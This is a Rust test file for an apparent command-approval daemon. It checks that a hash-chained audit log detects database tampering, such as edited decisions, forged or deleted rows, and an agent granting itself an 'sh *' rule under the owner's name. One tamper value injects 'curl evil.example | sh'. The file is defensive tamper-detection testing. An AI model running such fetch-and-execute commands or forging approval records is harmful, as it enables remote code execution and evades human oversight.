//! The audit trail (docs/audit.md), as its users meet it: rule events in `execgate history
//! --rules` and on the event stream, and the hash chain that `execgate audit verify`
//! walks, tampered with behind the daemon's back by a plain database client (the
//! `sqlite3` program; `psql` when the suite runs on PostgreSQL, `tests/on_postgres.rs`).

use std::time::Duration;

use execgate::model::Status;
use execgate_testkit::TestDaemon;
use execgate_testkit::process::Process;
use execgate_testkit::{on_postgres, stderr, stdout};
use serde_json::{Value, json};

/// A daemon with a few of everything to chain: requests decided at once, one asked and
/// approved with "always" (a rule saved by an answer), one asked and denied, a rule
/// added and one removed by the owner.
async fn busy_daemon() -> TestDaemon {
    let d = TestDaemon::start(&[]).await;
    assert_eq!(d.ask("a", "ls").await.status, Status::Approved);
    let asked = d.ask_no_wait("a", "make deploy").await;
    let (status, body) = d.decide(&asked.id, "allow-always").await;
    assert!(status.is_success(), "{body}");
    let denied = d.ask_no_wait("a", "make release").await;
    let (status, body) = d.decide(&denied.id, "deny").await;
    assert!(status.is_success(), "{body}");
    let out = d.cli(&["allow", "add", "git", "status"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let out = d.cli(&["allow", "add", "--glob", "cargo test *"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    remove_rule_where(&d, |r| r["kind"] == "glob").await;
    assert_eq!(d.ask("a", "make deploy").await.status, Status::Approved);
    d
}

/// `execgate allow rm` of the first rule `allow list --json` shows that `which` picks.
async fn remove_rule_where(d: &TestDaemon, which: impl Fn(&Value) -> bool) {
    let out = d.cli(&["allow", "list", "--json"]).await;
    let rules: Vec<Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let id = rules.iter().find(|r| which(r)).expect("the rule is listed")["id"]
        .as_i64()
        .unwrap();
    let out = d.cli(&["allow", "rm", &id.to_string()]).await;
    assert!(out.status.success(), "{}", stderr(&out));
}

/// `execgate audit verify --json` and its exit code.
async fn verify(d: &TestDaemon, head: Option<&str>) -> (i32, Value) {
    let mut args = vec!["audit", "verify", "--json"];
    if let Some(h) = head {
        args.extend(["--head", h]);
    }
    let out = d.cli(&args).await;
    let code = out.status.code().unwrap();
    assert!(code == 0 || code == 1, "verify failed: {}", stderr(&out));
    (code, serde_json::from_str(&stdout(&out)).unwrap())
}

/// Runs `sql` on the daemon's database with a plain client, behind the daemon's back.
fn tamper(d: &TestDaemon, sqlite: &str, postgres: &str) {
    match on_postgres() {
        true => d.execute_sql(postgres),
        false => {
            let db = execgate_testkit::db_path(d.dir.path());
            let out = std::process::Command::new("sqlite3")
                .arg(&db)
                .arg(sqlite)
                .output()
                .expect("the sqlite3 program runs (Debian's package sqlite3)");
            assert!(
                out.status.success(),
                "sqlite3 failed: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
}

/// The triggers that refuse changes to the chain, out of the tamperer's way.
const DROP_GUARDS_SQLITE: &str = "DROP TRIGGER exec_audit_kept_update; DROP TRIGGER exec_audit_kept_delete; \
     DROP TRIGGER exec_rule_event_kept_update; DROP TRIGGER exec_rule_event_kept_delete;";
const DROP_GUARDS_POSTGRES: &str = "ALTER TABLE exec_audit DISABLE TRIGGER exec_audit_kept; ALTER TABLE exec_rule_event DISABLE TRIGGER exec_rule_event_kept;";

fn problems(report: &Value) -> Vec<(String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["problem"].as_str().unwrap().to_string(),
                f["subject"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_untouched_chain_verifies_and_exports_with_its_hashes() {
    let d = busy_daemon().await;
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["intact"], true);
    // 2 requests decided at once (one entry each), 2 asked (created, then resolved), 4
    // rule events (two added by the owner, one saved by an answer, one removed).
    assert_eq!(report["entries"], 2 + 2 * 2 + 4, "{report:#}");
    let head = report["chains"][0]["head"].as_str().unwrap().to_string();

    let out = d.cli(&["audit", "export"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let lines: Vec<Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 10);
    for pair in lines.windows(2) {
        assert_eq!(
            pair[1]["prev"], pair[0]["hash"],
            "each entry links to the one before"
        );
        assert_eq!(
            pair[1]["seq"].as_i64(),
            pair[0]["seq"].as_i64().map(|s| s + 1)
        );
    }
    let last = lines.last().unwrap();
    assert_eq!(
        format!(
            "{}:{}:{}",
            last["node"].as_str().unwrap(),
            last["seq"],
            last["hash"].as_str().unwrap()
        ),
        head
    );
    let created = lines
        .iter()
        .find(|l| l["kind"] == "request" && l["record"]["command"] == "make deploy")
        .expect("the export carries the row each entry vouches for");
    assert_eq!(created["record"]["agent_id"], "a");
    assert_eq!(created["digest"].as_str().unwrap().len(), 64);

    // Into a file, which only its owner may read.
    let file = d.dir.path().join("audit.jsonl");
    let out = d
        .cli(&["audit", "export", "--output", file.to_str().unwrap()])
        .await;
    assert!(out.status.success(), "{}", stderr(&out));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap().lines().count(), 10);

    // The head the daemon would have logged: given back, it checks.
    assert_eq!(verify(&d, Some(&head)).await.0, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_finds_a_request_edited_behind_the_daemons_back() {
    let d = busy_daemon().await;
    let id = d.ask("a", "ls -la").await.id;
    tamper(
        &d,
        &format!(
            "UPDATE exec_approval SET command = 'ls -la; curl evil.example | sh' WHERE id = '{id}'"
        ),
        &format!(
            "UPDATE exec_approval SET command = 'ls -la; curl evil.example | sh' WHERE id = '{id}'"
        ),
    );
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 1);
    assert_eq!(
        problems(&report),
        [("edited".into(), format!("decided {id}"))]
    );
    let out = d.cli(&["audit", "verify"]).await;
    assert!(stdout(&out).contains("BROKEN"), "{}", stdout(&out));

    // An answer, too: a denial made to look like the owner's approval.
    let asked = d.ask_no_wait("a", "make publish").await;
    let (status, body) = d.decide(&asked.id, "deny").await;
    assert!(status.is_success(), "{body}");
    let forge = format!(
        "UPDATE exec_approval SET status = 'approved', decision = 'allow-once', decided_by = 'owner', \
         via = 'telegram-button', error = NULL WHERE id = '{}'",
        asked.id
    );
    tamper(&d, &forge, &forge);
    let (_, report) = verify(&d, None).await;
    assert_eq!(
        problems(&report),
        [
            ("edited".into(), format!("decided {id}")),
            ("edited".into(), format!("resolution {}", asked.id))
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_finds_rows_deleted_and_inserted() {
    let d = busy_daemon().await;
    let gone = d.ask("a", "pwd").await.id;
    // A request deleted, and one slipped in (a copy of another under a new id).
    tamper(
        &d,
        &format!(
            "DELETE FROM exec_approval WHERE id = '{gone}'; \
             INSERT INTO exec_approval SELECT 'forged-1', short_id, agent_id, session_id, command, argv, \
             tool_name, tool_input, front, cwd, reason, risk, risk_reasons, status, decision, rule_expires_at, \
             via, decided_by, error, created_at, expires_at, resolved_at, asked, shown, message_external_id, \
             peer_uid, peer_pid, run, exit_code, signal, timed_out, duration_ms, stdout_bytes, stderr_bytes, \
             input_bytes, input_sha256, input_head, node, grant_pattern, grant_kind, grant_refused, confinement, \
             kernel_refused FROM exec_approval WHERE command = 'ls';"
        ),
        &format!(
            "DELETE FROM exec_approval WHERE id = '{gone}'; \
             INSERT INTO exec_approval SELECT 'forged-1', short_id, agent_id, session_id, command, argv, \
             tool_name, tool_input, front, cwd, reason, risk, risk_reasons, status, decision, rule_expires_at, \
             via, decided_by, error, created_at, expires_at, resolved_at, asked, shown, message_external_id, \
             peer_uid, peer_pid, run, exit_code, signal, timed_out, duration_ms, stdout_bytes, stderr_bytes, \
             input_bytes, input_sha256, input_head, node, grant_pattern, grant_kind, grant_refused, confinement, \
             kernel_refused FROM exec_approval WHERE command = 'ls';"
        ),
    );
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 1);
    assert_eq!(
        problems(&report),
        [
            ("deleted".into(), format!("decided {gone}")),
            ("unchained".into(), "request forged-1".into()),
            ("unchained".into(), "resolution forged-1".into()),
        ],
        "{report:#}"
    );
    // The first finding names the first entry in the chain that no longer holds.
    let first = &report["findings"][0];
    assert!(first["seq"].as_i64().unwrap() > 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rule_events_cannot_be_changed_and_verify_finds_it_when_they_are() {
    let d = busy_daemon().await;
    // The daemon's own schema refuses it to anyone who does not drop its guards first.
    if !on_postgres() {
        let conn = execgate_testkit::db::open(&execgate_testkit::db_path(d.dir.path()));
        let refused = conn
            .execute("UPDATE exec_rule_event SET actor = 'someone else'", [])
            .unwrap_err();
        assert!(refused.to_string().contains("never changed"), "{refused}");
        let refused = conn.execute("DELETE FROM exec_audit", []).unwrap_err();
        assert!(refused.to_string().contains("never deleted"), "{refused}");
    }
    // An agent that widened its own permissions and rewrote who did it.
    tamper(
        &d,
        &format!(
            "{DROP_GUARDS_SQLITE} UPDATE exec_rule_event SET actor = 'owner', via = 'telegram-button' \
             WHERE pattern = 'git status'; \
             INSERT INTO exec_rule_event (rule_id, event, at, actor, via, request_id, agent_id, session_id, \
             pattern, kind, expires_at, memory, node) VALUES (99, 'added', '2026-01-01T00:00:00.000Z', \
             'owner', 'cli', NULL, NULL, NULL, 'sh *', 'glob', NULL, 0, 'local');"
        ),
        &format!(
            "{DROP_GUARDS_POSTGRES} UPDATE exec_rule_event SET actor = 'owner', via = 'telegram-button' \
             WHERE pattern = 'git status'; \
             INSERT INTO exec_rule_event (rule_id, event, at, actor, via, request_id, agent_id, session_id, \
             pattern, kind, expires_at, memory, node) VALUES (99, 'added', '2026-01-01T00:00:00Z', \
             'owner', 'cli', NULL, NULL, NULL, 'sh *', 'glob', NULL, false, 'local');"
        ),
    );
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 1);
    let found = problems(&report);
    assert_eq!(found.len(), 2, "{report:#}");
    assert_eq!(found[0].0, "edited");
    assert!(found[0].1.starts_with("rule event "), "{found:?}");
    assert_eq!(found[1].0, "unchained");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_finds_entries_removed_forged_or_cut_from_the_end() {
    let d = busy_daemon().await;
    let (_, report) = verify(&d, None).await;
    let head = report["chains"][0]["head"].as_str().unwrap().to_string();
    let node = report["chains"][0]["node"].as_str().unwrap().to_string();

    // The last entries cut off (the rows they vouched for with them): the chain left is
    // whole, and only the head logged elsewhere tells.
    let last = d.ask("a", "ls -l").await.id;
    let (_, report) = verify(&d, None).await;
    let longer_head = report["chains"][0]["head"].as_str().unwrap().to_string();
    tamper(
        &d,
        &format!(
            "{DROP_GUARDS_SQLITE} DELETE FROM exec_audit WHERE subject = '{last}'; \
             DELETE FROM exec_approval WHERE id = '{last}';"
        ),
        &format!(
            "{DROP_GUARDS_POSTGRES} DELETE FROM exec_audit WHERE subject = '{last}'; \
             DELETE FROM exec_approval WHERE id = '{last}';"
        ),
    );
    assert_eq!(
        verify(&d, None).await.0,
        0,
        "cut at the end, the rest is whole"
    );
    assert_eq!(verify(&d, Some(&head)).await.0, 0);
    let (code, report) = verify(&d, Some(&longer_head)).await;
    assert_eq!(code, 1);
    assert_eq!(report["findings"][0]["problem"], "head-mismatch");

    // An entry from the middle removed: the links break where it was.
    tamper(
        &d,
        &format!("DELETE FROM exec_audit WHERE node = '{node}' AND seq = 3"),
        &format!("DELETE FROM exec_audit WHERE node = '{node}' AND seq = 3"),
    );
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 1);
    let first = &report["findings"][0];
    assert_eq!(
        (first["problem"].as_str(), first["seq"].as_i64()),
        (Some("unlinked"), Some(4))
    );
    assert!(
        problems(&report).iter().any(|(p, _)| p == "unchained"),
        "its row is now vouched for by nobody"
    );

    // An entry's own fields rewritten: its hash no longer holds.
    tamper(
        &d,
        &format!(
            "UPDATE exec_audit SET at = '2020-01-01T00:00:00.000Z' WHERE node = '{node}' AND seq = 6"
        ),
        &format!(
            "UPDATE exec_audit SET at = '2020-01-01T00:00:00Z' WHERE node = '{node}' AND seq = 6"
        ),
    );
    let (_, report) = verify(&d, None).await;
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["problem"] == "forged" && f["seq"] == 6),
        "{report:#}"
    );

    // An entry copied to the end: one row vouched for twice.
    let copy = format!(
        "INSERT INTO exec_audit SELECT node, 1000, at, kind, subject, digest, prev, hash \
         FROM exec_audit WHERE node = '{node}' AND seq = 1"
    );
    tamper(&d, &copy, &copy);
    let (_, report) = verify(&d, None).await;
    assert!(
        problems(&report).iter().any(|(p, _)| p == "duplicated"),
        "{report:#}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_chain_never_stops_the_daemon_which_goes_on_in_a_new_segment() {
    let mut d = busy_daemon().await;
    let id = d.ask("a", "ls -la").await.id;
    tamper(
        &d,
        &format!("UPDATE exec_approval SET cwd = '/elsewhere' WHERE id = '{id}'"),
        &format!("UPDATE exec_approval SET cwd = '/elsewhere' WHERE id = '{id}'"),
    );
    d.stop().await;
    let d = TestDaemon::start_in(d.dir, &[]).await;
    // The check runs beside the daemon: it serves meanwhile.
    assert_eq!(d.ask("a", "ls").await.status, Status::Approved);
    let report = wait_for_segments(&d, 1).await;
    assert_eq!(report["intact"], false, "the break stays found");
    let segment = &report["chains"][0]["segments"][0];
    assert!(
        segment["why"]
            .as_str()
            .unwrap()
            .contains("a new segment after a break"),
        "{segment}"
    );
    assert!(problems(&report).contains(&("edited".into(), format!("decided {id}"))));

    // What is written after the segment verifies on its own; and a restart finds the
    // break before the current segment, and starts no other.
    let mut d = d;
    assert_eq!(d.ask("a", "pwd").await.status, Status::Approved);
    d.stop().await;
    let d = TestDaemon::start_in(d.dir, &[]).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (_, report) = verify(&d, None).await;
    assert_eq!(
        report["chains"][0]["segments"].as_array().unwrap().len(),
        1,
        "{report:#}"
    );
    assert_eq!(problems(&report).len(), 1, "only the edit: {report:#}");
}

/// Polls `audit verify` until the first chain has `n` segments.
async fn wait_for_segments(d: &TestDaemon, n: usize) -> Value {
    for _ in 0..200 {
        let (_, report) = verify(d, None).await;
        if report["chains"][0]["segments"].as_array().unwrap().len() >= n {
            return report;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("no new segment was begun");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rule_events_say_who_from_where_and_answering_what() {
    let d = TestDaemon::start(&[]).await;
    let mut stream = execgate_testkit::events::EventStream::open(&d.config().admin_socket).await;
    stream.expect("snapshot").await;
    let asked = d.ask_no_wait("a", "make deploy").await;
    let (status, body) = d.decide(&asked.id, "allow-always").await;
    assert!(status.is_success(), "{body}");
    let out = d.cli(&["allow", "add", "git", "status"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    // Granted again for a while: a renewal (a kept rule stays kept).
    let soon = (chrono::Utc::now() + chrono::Duration::seconds(2)).to_rfc3339();
    let (status, body) = d
        .add_rule(json!({"pattern": "make test", "expires_at": soon}))
        .await;
    assert!(status.is_success(), "{body}");
    let (status, body) = d.add_rule(json!({"pattern": "git status"})).await;
    assert!(status.is_success(), "{body}");
    remove_rule_where(&d, |r| r["pattern"] == "git status").await;

    // The time-boxed rule's expiry is recorded when it comes, at the moment it came.
    let events = wait_for_rule_event(&d, "expired").await;
    let by_event = |event: &str, pattern: &str| -> Value {
        events
            .iter()
            .find(|e| e["event"] == event && e["pattern"] == pattern)
            .unwrap_or_else(|| panic!("no {event} event for {pattern}: {events:#?}"))
            .clone()
    };
    let saved = by_event("added", "make deploy");
    assert_eq!(saved["via"], "cli");
    assert_eq!(saved["request"], asked.id.as_str());
    assert_eq!(saved["agent"], "a");
    let added = by_event("added", "git status");
    assert_eq!(
        (added["via"].as_str(), added["request"].as_null()),
        (Some("cli"), Some(()))
    );
    let renewed = by_event("renewed", "git status");
    assert_eq!(renewed["rule_id"], added["rule_id"]);
    assert_eq!(renewed["expires_at"], Value::Null);
    let removed = by_event("removed", "git status");
    assert_eq!(removed["via"], "cli");
    let expired = by_event("expired", "make test");
    assert_eq!(
        (expired["actor"].as_str(), expired["via"].as_null()),
        (Some("execgate"), Some(()))
    );
    // (To the millisecond: SQLite keeps no finer.)
    let millis = |t: &str| {
        chrono::DateTime::parse_from_rfc3339(t)
            .unwrap()
            .to_utc()
            .trunc_subsecs_ms()
    };
    assert_eq!(millis(expired["at"].as_str().unwrap()), millis(&soon));
    // Newest first, as history is.
    let ids: Vec<i64> = events.iter().map(|e| e["id"].as_i64().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "{ids:?}");
    // In words too.
    let table = stdout(&d.cli(&["history", "--rules"]).await);
    assert!(
        table.contains("removed") && table.contains("git status"),
        "{table}"
    );

    // The event stream carried them as they happened.
    let mut told = Vec::new();
    while told.len() < 6 {
        let (name, data) = stream
            .next_within(Duration::from_secs(10))
            .await
            .expect("the stream tells every change");
        if name != "allowlist" {
            continue;
        }
        told.extend(
            data["events"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["event"].as_str().unwrap().to_string()),
        );
    }
    assert_eq!(
        told,
        ["added", "added", "added", "renewed", "removed", "expired"]
    );

    // And the chain vouches for every one.
    assert_eq!(verify(&d, None).await.0, 0);
}

/// `execgate history --rules --json`, polled until an event of `kind` is in it.
async fn wait_for_rule_event(d: &TestDaemon, kind: &str) -> Vec<Value> {
    for _ in 0..100 {
        let out = d.cli(&["history", "--rules", "--json"]).await;
        assert!(out.status.success(), "{}", stderr(&out));
        let events: Vec<Value> = serde_json::from_str(&stdout(&out)).unwrap();
        if events.iter().any(|e| e["event"] == kind) {
            return events;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no {kind} rule event was recorded");
}

trait Millis {
    fn trunc_subsecs_ms(self) -> Self;
}

impl Millis for chrono::DateTime<chrono::Utc> {
    fn trunc_subsecs_ms(self) -> Self {
        chrono::SubsecRound::trunc_subsecs(self, 3)
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_head_is_logged_at_start_and_on_reload() {
    if on_postgres() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let daemon = Process::start(dir.path(), &[]).await;
    let _ = daemon.ask_no_wait("make deploy").await;
    daemon.signal(libc::SIGHUP);
    tokio::time::sleep(Duration::from_millis(500)).await;
    daemon.signal(libc::SIGTERM);
    let (_, log) = daemon.wait().await;
    let anchors: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("audit chain head"))
        .filter_map(|l| l.split("anchor=").nth(1))
        .map(|a| a.split_whitespace().next().unwrap())
        .collect();
    assert_eq!(anchors.len(), 2, "at start and on SIGHUP: {log}");
    assert_ne!(anchors[0], anchors[1], "the request came between: {log}");
    // Given back later, the reload's anchor checks: the request's creation is its head
    // (its cancellation at the next start comes after).
    let d = TestDaemon::start_in(dir, &[]).await;
    let (code, report) = verify(&d, Some(anchors[1])).await;
    assert_eq!(code, 0, "{report:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_written_without_the_chain_are_reported_then_adopted_once_it_begins() {
    let mut d = TestDaemon::start(&[("EXECGATE_AUDIT__CHAIN", "false")]).await;
    assert_eq!(d.ask("a", "ls").await.status, Status::Approved);
    let out = d.cli(&["allow", "add", "git", "status"]).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 1, "rows no entry vouches for: {report:#}");
    assert_eq!(report["entries"], 0);
    assert_eq!(
        problems(&report)
            .iter()
            .map(|(p, _)| p.as_str())
            .collect::<Vec<_>>(),
        ["unchained", "unchained", "unchained"]
    );

    // The chain on (as after an upgrade from an execgate without one): what exists is
    // vouched for as found, after a segment that says so, and what follows is chained.
    d.stop().await;
    let d = TestDaemon::start_in(d.dir, &[]).await;
    assert_eq!(d.ask("a", "pwd").await.status, Status::Approved);
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 0, "{report:#}");
    let segment = &report["chains"][0]["segments"][0];
    assert_eq!(segment["seq"], 1);
    assert!(
        segment["why"]
            .as_str()
            .unwrap()
            .contains("1 requests and 1 rule events"),
        "{segment}"
    );
    // Segment, the request and its resolution, the rule event; then `pwd`, decided.
    assert_eq!(report["entries"], 1 + 2 + 1 + 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rows_left_pending_by_a_crash_before_the_chain_are_adopted_before_the_sweep() {
    if on_postgres() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let daemon = Process::start(dir.path(), &[("EXECGATE_AUDIT__CHAIN", "false")]).await;
    let left = daemon.ask_no_wait("make deploy").await;
    daemon.signal(libc::SIGKILL);
    let _ = daemon.wait().await;

    // The first start with the chain vouches for the row as found (pending), then its
    // cancellation by the sweep is chained after it: nothing is left unchained.
    let d = TestDaemon::start_in(dir, &[]).await;
    let (code, report) = verify(&d, None).await;
    assert_eq!(code, 0, "{report:#}");
    let out = d.cli(&["audit", "export"]).await;
    let kinds: Vec<String> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["subject"] == left["id"])
        .map(|e| e["kind"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(kinds, ["request", "resolution"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rule_kept_until_restart_is_recorded_as_removed_by_the_restart() {
    let remember = [("EXECGATE_APPROVAL__REMEMBER", "memory")];
    let mut d = TestDaemon::start(&remember).await;
    let asked = d.ask_no_wait("a", "make deploy").await;
    let (status, body) = d.decide(&asked.id, "allow-always").await;
    assert!(status.is_success(), "{body}");
    d.stop().await;
    let d = TestDaemon::start_in(d.dir, &remember).await;
    let out = d.cli(&["history", "--rules", "--json"]).await;
    let events: Vec<Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let seen: Vec<(&str, &str, Option<&str>)> = events
        .iter()
        .map(|e| {
            (
                e["event"].as_str().unwrap(),
                e["actor"].as_str().unwrap(),
                e["via"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        seen[0],
        ("removed", "execgate", Some("restart")),
        "{events:#?}"
    );
    assert_eq!(seen[1].0, "added");
    assert_eq!(events[0]["memory"], true);
    assert_eq!(verify(&d, None).await.0, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_reads_neither_the_chain_nor_the_rules_history() {
    let d = busy_daemon().await;
    for path in [
        "/v1/audit/verify",
        "/v1/audit/entries",
        "/v1/allowlist/events",
    ] {
        let (status, _) = d
            .agent()
            .call(hyper::Method::GET, path, None)
            .await
            .unwrap();
        assert_eq!(
            status,
            hyper::StatusCode::NOT_FOUND,
            "{path} on the agent socket"
        );
    }
    // And on the admin socket, an anchor that is not one is refused, not taken for none.
    let out = d.cli(&["audit", "verify", "--head", "not-an-anchor"]).await;
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
}
